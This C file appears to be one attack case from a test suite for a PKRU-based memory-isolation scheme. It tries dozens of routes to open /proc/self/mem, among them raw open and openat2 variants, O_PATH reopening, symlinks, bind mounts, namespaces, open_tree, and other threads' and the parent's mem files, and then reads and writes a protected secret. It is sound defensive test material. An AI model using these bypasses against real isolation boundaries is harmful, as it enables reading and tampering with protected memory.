/* SPDX-License-Identifier: MIT */
/*
 * Opens /proc/self/mem by every name it has, with one thread and with two: the
 * kernel reads and writes memory there without looking at PKRU.
 */
/* Isolation: any */
/* Blocked: 0 */
/* Control: 42 */
#include "attack.h"

#include <linux/openat2.h>
#include <sys/mount.h>
#include <sys/vfs.h>

static void use(int fd, const char *how)
{
	struct statfs fs;
	char buf[32];

	if (fd < 0)
		return;
	if (fstatfs(fd, &fs) || fs.f_type != 0x9fa0 /* procfs */) {
		close(fd);
		return;
	}
	if (pread(fd, buf, sizeof(buf), (off_t)env.secret) > 0)
		succeeded("%s: the secret was read", how);
	if (pwrite(fd, "x", 1, (off_t)env.secret) > 0)
		succeeded("%s: the secret was written", how);
	close(fd);
}

static void try_path(const char *path)
{
	struct open_how how = {.flags = O_RDWR};
	static const int flags[] = {O_RDWR,
				    O_RDONLY,
				    O_RDWR | O_NOFOLLOW,
				    O_RDWR | O_CREAT,
				    O_RDWR | O_NONBLOCK | O_LARGEFILE,
				    0x80000000 | O_RDWR};
	char link[64];
	int fd;

	for (size_t i = 0; i < sizeof(flags) / sizeof(flags[0]); i++) {
		use((int)raw(SYS_open, path, flags[i], 0), path);
		use((int)raw(SYS_openat, AT_FDCWD, path, flags[i] | 7l << 32, 0), path);
	}
	use((int)raw(SYS_creat, path, 0), path);
	use((int)raw(SYS_openat2, AT_FDCWD, path, &how, sizeof(how)), path);
	how.resolve = RESOLVE_NO_SYMLINKS;
	use((int)raw(SYS_openat2, AT_FDCWD, path, &how, sizeof(how)), path);
	fd = (int)raw(SYS_open, path, O_PATH, 0);
	if (fd < 0)
		return;
	snprintf(link, sizeof(link), "/proc/self/fd/%d", fd);
	use((int)raw(SYS_open, link, O_RDWR, 0), "O_PATH, then /proc/self/fd");
	snprintf(link, sizeof(link), "/dev/fd/%d", fd);
	use((int)raw(SYS_open, link, O_RDWR, 0), "O_PATH, then /dev/fd");
	how = (struct open_how){.flags = O_RDWR, .resolve = 0};
	use((int)raw(SYS_openat2, fd, "", &how, sizeof(how)), "O_PATH, then an empty path");
	use((int)raw(SYS_openat, fd, "", O_RDWR, 0), "O_PATH, then an empty path");
	close(fd);
}

static void try_dirs(void)
{
	static const char *const dirs[] = {"/proc/self", "/proc/thread-self", "/proc"};
	struct open_how how = {.flags = O_RDWR, .resolve = RESOLVE_BENEATH};

	for (size_t i = 0; i < 3; i++) {
		const char *name = i == 2 ? "self/mem" : "mem";
		int dir = (int)raw(SYS_open, dirs[i], O_RDONLY | O_DIRECTORY, 0);

		use((int)raw(SYS_openat, dir, name, O_RDWR, 0), "a directory of procfs");
		how.resolve = RESOLVE_BENEATH;
		use((int)raw(SYS_openat2, dir, name, &how, sizeof(how)), "RESOLVE_BENEATH");
		how.resolve = RESOLVE_IN_ROOT;
		use((int)raw(SYS_openat2, dir, "/mem", &how, sizeof(how)), "RESOLVE_IN_ROOT");
		how.resolve = RESOLVE_NO_XDEV;
		use((int)raw(SYS_openat2, dir, name, &how, sizeof(how)), "RESOLVE_NO_XDEV");
		if (raw(SYS_fchdir, dir) == 0)
			use((int)raw(SYS_open, name, O_RDWR, 0), "a relative path in procfs");
		close(dir);
	}
	if (raw(SYS_chdir, "/proc/self/task") == 0)
		use((int)raw(SYS_open, "../mem", O_RDWR, 0), "../mem");
}

static void try_mounts(void *arg)
{
	char where[] = "/tmp/attack-mntXXXXXX", path[64];

	(void)arg;
	if (geteuid() != 0 && unshare(CLONE_NEWUSER))
		return;
	if (unshare(CLONE_NEWNS) || !mkdtemp(where))
		return;
	(void)mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL);
	if (mount("/proc", where, NULL, MS_BIND | MS_REC, NULL) == 0) {
		snprintf(path, sizeof(path), "%s/self/mem", where);
		try_path(path);
		(void)umount2(where, MNT_DETACH);
	}
	if (mount("p", where, "proc", 0, NULL) == 0) {
		try_path(path);
		(void)umount2(where, MNT_DETACH);
	}
	snprintf(path, sizeof(path), "%s/file", where);
	if (mount("t", where, "tmpfs", 0, NULL) == 0 && write_file(path, "x")) {
		if (mount("/proc/self/mem", path, NULL, MS_BIND, NULL) == 0)
			try_path(path);
	}
	int tree = (int)raw(428 /* open_tree */, AT_FDCWD, "/proc/self/mem", 1 /* CLONE */);

	if (tree >= 0) {
		snprintf(path, sizeof(path), "/proc/self/fd/%d", tree);
		try_path(path);
	}
	(void)umount2(where, MNT_DETACH);
	(void)rmdir(where);
}

static volatile int other_tid;
static void *sit(void *arg)
{
	(void)arg;
	other_tid = (int)raw(SYS_gettid);
	for (;;)
		pause();
	return NULL;
}

static void try_all(void)
{
	char path[96];
	const char *const names[] = {"/proc/self/mem", "/proc/thread-self/mem",
				     "/proc/self/root/proc/self/mem", "/proc/self/cwd/mem",
				     "//proc/./self/../self/mem"};

	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++)
		try_path(names[i]);
	snprintf(path, sizeof(path), "/proc/%d/mem", getpid());
	try_path(path);
	snprintf(path, sizeof(path), "/proc/self/task/%d/mem", getpid());
	try_path(path);
	if (other_tid) {
		snprintf(path, sizeof(path), "/proc/self/task/%d/mem", other_tid);
		try_path(path);
		snprintf(path, sizeof(path), "/proc/%d/mem", other_tid);
		try_path(path);
	}
	(void)unlink("link");
	if (symlink("/proc/self/mem", "link") == 0)
		try_path("link");
	try_dirs();
}

static void parents(void *arg)
{
	char path[64];

	(void)arg;
	snprintf(path, sizeof(path), "/proc/%d/mem", getppid());
	try_path(path);
	snprintf(path, sizeof(path), "/proc/%d/task/%d/mem", getppid(), getppid());
	try_path(path);
}

void attack(void)
{
	try_all();
	expect_blocked(in_child(parents, NULL), "the parent's memory");
	expect_blocked(in_child(try_mounts, NULL), "mounts");
	thread(sit, NULL);
	while (!other_tid)
		usleep(1000);
	try_all();
}
